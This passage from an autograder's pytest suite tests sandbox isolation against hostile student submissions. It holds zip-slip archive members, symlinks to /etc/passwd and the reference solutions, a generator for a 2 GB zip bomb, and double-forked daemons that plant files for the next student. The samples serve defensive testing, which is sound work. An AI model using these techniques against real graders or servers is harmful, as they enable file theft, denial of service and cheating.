            os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)",
                                       "@TOKEN@"], {})
        os._exit(0)
    return f_prime(g(x)) * g_prime(x)
"""


def test_without_a_worker_uid_a_double_forked_daemon_with_no_marker_is_killed(
        make_submission, tmp_path, token, monkeypatch):
    """As when the grader is not root. (Before 9bea54a descendants were found by process
    group and by CALCGRADER_WORKER in their environment only: this daemon escaped.)"""
    monkeypatch.setattr("grader.isolation.sandbox.worker_uid", lambda: None)
    folder = make_submission("daemon", append=with_token(
        learner_code({"chain_rule": DAEMON_WITHOUT_MARKER}), token))
    graded = grade_here(folder, tmp_path / "out")
    full_marks(graded)
    assert_nothing_survives(token)


@needs_root
def test_grading_processes_running_at_once_never_share_a_worker_uid(monkeypatch):
    """(Before 9bea54a the uid was 61000 + pid % 4000: pids 4000 apart, likely in a long
    `batch -j N`, shared a uid, and one grade's clean-up killed the other's worker.)"""
    uids = set()
    for pid in (10_123, 14_123, 42_891, 4_194_303):
        monkeypatch.setattr(os, "getpid", lambda pid=pid: pid)
        monkeypatch.setattr(os, "geteuid", lambda: 0)
        uids.add(sandbox_uid())
    monkeypatch.undo()
    assert len(uids) == 4 and None not in uids


def test_a_namespaces_grade_and_a_uid_grade_never_share_a_uid(monkeypatch):
    """A namespaces grading process runs its sandbox as UID_BASE + pid; the uid fallback's
    workers had UID_BASE + pid * 256 + n: a grade of pid 100 in uid mode and one of pid
    25_600 + n with namespaces on one machine shared a uid, and one's clean-up (kill every
    process of the uid) could kill the other's sandbox."""
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    monkeypatch.setattr("grader.isolation.sandbox.isolation", lambda: "uid")
    fallback = set()
    for pid in (1, 100, 16_383, 4_194_303):
        monkeypatch.setattr(os, "getpid", lambda pid=pid: pid)
        fallback |= {worker_uid() for _ in range(256)}
    namespaces = set()
    for pid in (1, 100, 25_600, 25_633, 4_194_303):
        monkeypatch.setattr(os, "getpid", lambda pid=pid: pid)
        namespaces.add(sandbox_uid())
    monkeypatch.undo()
    assert len(fallback) == 4 * 256 and not fallback & namespaces
    assert max(fallback) < 2 ** 31 - 1


# ============================================================================ bad input

def assert_one_clear_line(run: Run, words: str) -> None:
    assert run.returncode == 2, (run.returncode, run.stderr[-500:])
    lines = [line for line in run.stderr.strip().splitlines() if not line.startswith("note:")]
    assert len(lines) == 1 and words in lines[0], run.stderr
    assert "Traceback" not in run.stderr + run.stdout


def folder_of(tmp: Path, files: dict[str, str]) -> Path:
    folder = tmp / "student"
    folder.mkdir()
    for name, text in files.items():
        (folder / name).write_text(text)
    return folder


@pytest.mark.parametrize("make_path, words", [
    (lambda tmp: Path("/dev/null"), "not a folder"),
    (lambda tmp: SOLUTIONS / "derivatives.py", "not a folder"),
    (lambda tmp: folder_of(tmp, {}), "holds none of the exercise modules"),
    (lambda tmp: folder_of(tmp, {"readme.py": "x = 1", "notes.txt": "hi"}),
     "holds none of the exercise modules"),
], ids=["device_file", "a_single_module_file", "empty_folder", "folder_without_modules"])
def test_a_path_that_is_not_a_submission_is_one_clear_line(tmp_path, make_path, words):
    run = grader_cli("grade", make_path(tmp_path), "--out", tmp_path / "out", timeout=60)
    assert_one_clear_line(run, words)
    assert not (tmp_path / "out").exists()


def listing(*folders: Path) -> set[str]:
    return {str(p) for folder in folders for p in folder.rglob("*")} if folders else set()


def test_zip_slip_and_symlink_members_are_skipped_and_nothing_lands_outside_out(tmp_path,
                                                                                 token):
    archive = tmp_path / "deep" / "hw.zip"
    archive.parent.mkdir()
    evil = f"evil-{token}.py"
    with zipfile.ZipFile(archive, "w") as zipped:
        for path in SOLUTIONS.glob("*.py"):
            if path.stem != "gradient_check":
                zipped.write(path, path.name)
        for name in (f"../{evil}", f"../../{evil}", f"sub/../../{evil}", f"..\\{evil}",
                     f"{TMP}/{evil}", f"/{evil}"):
            zipped.writestr(name, "raise SystemExit('escaped')\n")
        link = zipfile.ZipInfo("gradient_check.py")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        zipped.writestr(link, "/etc/passwd")
    before = listing(tmp_path)
    run = grader_cli("grade", archive, "--out", tmp_path / "out", "--tests", "public")
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    graded = Graded(tmp_path / "out", run.seconds, run)
    assert graded.failed_functions() == {"relative_error", "check_gradient"}
    assert sum("points outside the archive" in note for note in graded.notes) >= 6
    assert "points outside the archive" in (graded.out / "feedback.md").read_text()
    assert listing(tmp_path) - before <= listing(tmp_path / "out") | {str(tmp_path / "out")}
    for folder in (TMP, KIT, Path.cwd(), Path("/")):
        assert not (folder / evil).exists()
    assert "root:x:0:0" not in "".join(graded.texts().values())


def write_zip_bomb(target: Path, gigabytes: int = 2) -> None:
    """solutions/ zipped, with derivatives.py replaced by `gigabytes` GB of zeros (~2 MB)."""
    chunk = bytes(16 << 20)
    segment = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = segment.compress(chunk) + segment.flush(zlib.Z_FULL_FLUSH)
    count = (gigabytes << 30) // len(chunk)
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(chunk, crc)
    members = []
    for path in sorted(SOLUTIONS.glob("*.py")):
        if path.stem != "derivatives":
            data = path.read_bytes()
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            members.append((path.name, packer.compress(data) + packer.flush(), zlib.crc32(data),
                            len(data)))
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    members.append(("derivatives.py", block * count + final, crc, count * len(chunk)))
    with target.open("wb") as handle:
        central = []
        for name, data, crc32, size in members:
            offset = handle.tell()
            fields = (20, 0, 8, 0, 0x21, crc32, len(data), size, len(name), 0)
            handle.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields) + name.encode())
            handle.write(data)
            central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, *fields, 0, 0, 0,
                                       0o644 << 16, offset) + name.encode())
        start = handle.tell()
        directory = b"".join(central)
        handle.write(directory + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members),
                                             len(members), len(directory), start, 0))


@background_job("test_a_2_gb_zip_bomb_member_is_refused_without_being_expanded")
def _grade_a_zip_bomb(workdir: Path, token: str) -> tuple[Run, Path]:
    archive = workdir / "bomb.zip"
    write_zip_bomb(archive)
    return grader_cli("grade", archive, "--out", workdir / "out", "--tests", "public",
                      timeout=120, tmpdir=private_tmp(token)), workdir


def test_a_2_gb_zip_bomb_member_is_refused_without_being_expanded(background):
    (run, workdir), _ = background.result(
        "test_a_2_gb_zip_bomb_member_is_refused_without_being_expanded")
    assert (workdir / "bomb.zip").stat().st_size < 10 << 20
    with zipfile.ZipFile(workdir / "bomb.zip") as zipped:
        assert zipped.getinfo("derivatives.py").file_size == 2 << 30
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    graded = Graded(workdir / "out", run.seconds, run)
    assert run.seconds < 60
    assert any("derivatives.py was not graded" in note and "2048" in note for note in graded.notes)
    assert "derivatives.py was not graded" in (graded.out / "feedback.md").read_text()
    assert graded.module_points()["derivatives"][0] == 0
    assert "derivatives.py is missing" in graded.checks("central_difference")[0]["output"]
    assert graded.failed_functions() == {"forward_difference", "central_difference",
                                         "second_derivative", "polynomial_derivative"}


def test_a_zip_of_many_small_members_expanding_past_64_mb_is_one_clear_line(tmp_path):
    archive = tmp_path / "many.zip"
    filler = b"#" * (1000 << 10) + b"\n"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zipped:
        for path in SOLUTIONS.glob("*.py"):
            zipped.write(path, path.name)
        for number in range(70):
            zipped.writestr(f"padding_{number:02d}.py", filler)
    run = grader_cli("grade", archive, "--out", tmp_path / "out", "--tests", "public")
    assert_one_clear_line(run, "more than 64 MB")


def test_symlinks_to_etc_passwd_and_to_solutions_are_not_graded(tmp_path):
    (tmp_path / "solutions").mkdir()
    for path in SOLUTIONS.glob("*.py"):
        shutil.copy(path, tmp_path / "solutions" / path.name)
    folder = tmp_path / "student"
    folder.mkdir()
    for path in SOLUTIONS.glob("*.py"):
        if path.stem not in ("derivatives", "minima", "gradient_check"):
            shutil.copy(path, folder / path.name)
    (folder / "derivatives.py").symlink_to("/etc/passwd")
    (folder / "minima.py").symlink_to("../solutions/minima.py")
    (folder / "gradient_check.py").symlink_to(SOLUTIONS / "gradient_check.py")
    (folder / "dangling.py").symlink_to(tmp_path / "nowhere.py")
    run = grader_cli("grade", folder, "--out", tmp_path / "out", "--tests", "public")
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    graded = Graded(tmp_path / "out", run.seconds, run)
    for module in ("derivatives", "minima", "gradient_check"):
        assert graded.module_points()[module][0] == 0
        assert any(f"{module}.py is a symbolic link" in note for note in graded.notes)
        assert f"{module}.py is a symbolic link" in (graded.out / "feedback.md").read_text()
    got, most = graded.module_points()["losses"]
    assert got == most > 0
    assert "root:x:0:0" not in "".join(graded.texts().values())


def test_a_symlinked_subfolder_pointing_at_the_solutions_is_not_graded(tmp_path):
    """(Before 9bea54a intake followed `hw -> <kit>/solutions` and the root grader graded
    the reference solution as the learner's: full marks.)"""
    folder = tmp_path / "student"
    folder.mkdir()
    (folder / "hw").symlink_to(SOLUTIONS, target_is_directory=True)
    run = grader_cli("grade", folder, "--out", tmp_path / "out", "--tests", "public")
    if run.returncode == 2:
        assert_one_clear_line(run, "")
    else:
        assert Graded(tmp_path / "out", run.seconds, run).score == 0


def test_non_utf8_binary_and_50_mb_modules_fail_only_their_own_checks(tmp_path):
    folder = tmp_path / "student"
    folder.mkdir()
    for path in SOLUTIONS.glob("*.py"):
        shutil.copy(path, folder / path.name)
    (folder / "derivatives.py").write_bytes(
        b"def central_difference(f, x, h=1e-5):\n    return 'caf\xe9 \xff\xfe'\n")
    (folder / "gradient_check.py").write_bytes(bytes(range(256)) * 8 + b"\x00\x00\n")
    source = (SOLUTIONS / "minima.py").read_bytes()
    (folder / "minima.py").write_bytes(source + b"#" * (50 << 20) + b"\n")
    run = grader_cli("grade", folder, "--out", tmp_path / "out", "--tests", "public")
    assert run.returncode == 0 and "Traceback" not in run.stderr, run.stderr
    graded = Graded(tmp_path / "out", run.seconds, run)
    assert {m for m, (score, top) in graded.module_points().items() if score < top} == {
        "derivatives", "gradient_check", "minima"}
    assert {m for m, (score, top) in graded.module_points().items() if score > 0} == set(
        MODULES) - {"derivatives", "gradient_check", "minima"}
    assert "could not be imported" in graded.checks("central_difference")[0]["output"]
    assert "utf-8" in graded.checks("central_difference")[0]["output"].lower()
    assert "null bytes" in graded.checks("relative_error")[0]["output"]
    assert any("minima.py was not graded" in note and "50.0 MB" in note for note in graded.notes)
    feedback = (graded.out / "feedback.md").read_text()
    assert "minima.py was not graded" in feedback and "could not be imported" in feedback
    assert max(p.stat().st_size for p in (tmp_path / "out").rglob("*") if p.is_file()) < 2 << 20


@background_job("test_a_fifo_named_like_a_zip_is_one_clear_line")
def _grade_a_fifo(workdir: Path, token: str) -> Run:
    os.mkfifo(workdir / "hw.zip")
    return grader_cli("grade", workdir / "hw.zip", "--out", workdir / "out", timeout=10,
                      tmpdir=private_tmp(token))


def test_a_fifo_named_like_a_zip_is_one_clear_line(background):
    run, _ = background.result("test_a_fifo_named_like_a_zip_is_one_clear_line")
    assert_one_clear_line(run, "hw.zip")


def _limit_memory() -> None:
    import resource
    resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))


@background_job("test_a_zip_that_is_a_symlink_to_dev_zero_is_one_clear_line")
def _grade_dev_zero(workdir: Path, token: str) -> Run:
    (workdir / "hw.zip").symlink_to("/dev/zero")
    return grader_cli("grade", workdir / "hw.zip", "--out", workdir / "out", timeout=60,
                      preexec_fn=_limit_memory, tmpdir=private_tmp(token))


def test_a_zip_that_is_a_symlink_to_dev_zero_is_one_clear_line(background):
    run, _ = background.result("test_a_zip_that_is_a_symlink_to_dev_zero_is_one_clear_line")
    assert_one_clear_line(run, "hw.zip")


# ============================================================================ batch faults

CRASH_EVERY_CALL = "import os as _os\n_os._exit(3)\n"


@background_job("test_a_batch_with_a_student_who_crashes_the_worker_on_every_call_finishes")
def _batch_with_a_crashing_student(workdir: Path, token: str) -> tuple[Run, Path]:
    classroom = workdir / "class"
    build_submission(classroom / "ada", {})
    build_submission(classroom / "crash", with_token(
        learner_code({module: CRASH_EVERY_CALL for module in MODULES}), token))
    (classroom / "eve.zip").write_bytes(b"PK\x03\x04 not really a zip")
    return grader_cli("batch", classroom, "--out", workdir / "out", "-j", "2", "--tests",
                      "public", timeout=240, tmpdir=private_tmp(token)), workdir / "out"


def test_a_batch_with_a_student_who_crashes_the_worker_on_every_call_finishes(background):
    (run, out), token = background.result(
        "test_a_batch_with_a_student_who_crashes_the_worker_on_every_call_finishes")
    assert run.returncode == 0, run.stderr
    assert run.seconds < 150
    rows = (out / "grades.csv").read_text().splitlines()
    scores = {row.split(",")[0]: row.split(",")[1:3] for row in rows[1:]}
    assert set(scores) == {"ada", "crash", "eve"}
    ada = (out / "ada" / "feedback.md").read_text()
    assert scores["ada"][0] == scores["ada"][1], ada[:3000]
    assert float(scores["crash"][0]) == float(scores["eve"][0]) == 0
    assert "exited with code 3" in (out / "crash" / "feedback.md").read_text()
    assert_nothing_survives(token)


PLANTER = """
import os as _os, sys as _sys, time as _time
_PLANTED = "/tmp/calcgrader-planted-@TOKEN@"
open(_PLANTED, "w").write("left for the next student")
if _os.fork() == 0:                      # a daemon that plants again, later
    _os.setsid()
    if _os.fork() == 0:
        _os.execv(_sys.executable, [_sys.executable, "-c",
                  "import time, sys; time.sleep(1); open(sys.argv[1], 'w').write('again');"
                  "time.sleep(600)", _PLANTED, "@TOKEN@"])
    _os._exit(0)
"""

VICTIM = """
import os as _os
_right_forward = forward_difference

def forward_difference(f, x, h=1e-5):     # wrong if anything of the student before is left
    value = _right_forward(f, x, h)
    return value + 1.0 if _os.path.exists("/tmp/calcgrader-planted-@TOKEN@") else value
"""


@background_job("test_one_grading_process_serves_a_class_and_nothing_of_a_student_reaches_the_next")
def _batch_planter_then_victim(workdir: Path, token: str) -> tuple[Run, Path]:
    classroom = workdir / "class"
    build_submission(classroom / "a_planter", with_token({"derivatives": PLANTER}, token))
    build_submission(classroom / "b_victim", with_token({"derivatives": VICTIM}, token))
    return grader_cli("batch", classroom, "--out", workdir / "out", "-j", "1", "--tests",
                      "public", timeout=240, tmpdir=private_tmp(token)), workdir / "out"


@needs_root
def test_one_grading_process_serves_a_class_and_nothing_of_a_student_reaches_the_next(
        background):
    """batch grades many students in one long-lived process: a file planted in /tmp and a
    daemon planting it again are gone before the next student's code runs."""
    (run, out), token = background.result(
        "test_one_grading_process_serves_a_class_and_nothing_of_a_student_reaches_the_next")
    assert run.returncode == 0, run.stderr
    rows = {row.split(",")[0]: row.split(",")[1:3]
            for row in (out / "grades.csv").read_text().splitlines()[1:]}
    assert rows["a_planter"][0] == rows["a_planter"][1]
    assert rows["b_victim"][0] == rows["b_victim"][1], (out / "b_victim" / "feedback.md"
                                                       ).read_text()[:3000]
    assert not Path(f"/tmp/calcgrader-planted-{token}").exists()
    assert_nothing_survives(token)


@pytest.mark.parametrize("make_out", [
    lambda tmp: (tmp / "file").write_text("a file") and tmp / "file" / "out",
    lambda tmp: Path("/proc/self/out"),
], ids=["below_a_file", "inside_proc"])
def test_a_batch_into_an_unwritable_out_is_one_clear_line(make_submission, tmp_path, make_out):
    make_submission("class/ada")
    run = grader_cli("batch", tmp_path / "class", "--out", make_out(tmp_path), timeout=60)
    assert_one_clear_line(run, "cannot write to")


UNFLUSHED_PRINT = """
def chain_derivative(f_prime, g, g_prime, x):
    print("printed by @TOKEN@")
    return f_prime(g(x)) * g_prime(x)
"""


def test_what_learner_code_prints_reaches_the_report_without_a_flush(make_submission, tmp_path,
                                                                      token):
    folder = make_submission("printer", append=with_token(
        learner_code({"chain_rule": UNFLUSHED_PRINT}), token))
    graded = grade_here(folder, tmp_path / "out")
    full_marks(graded)
    assert f"printed by {token}" in graded.output
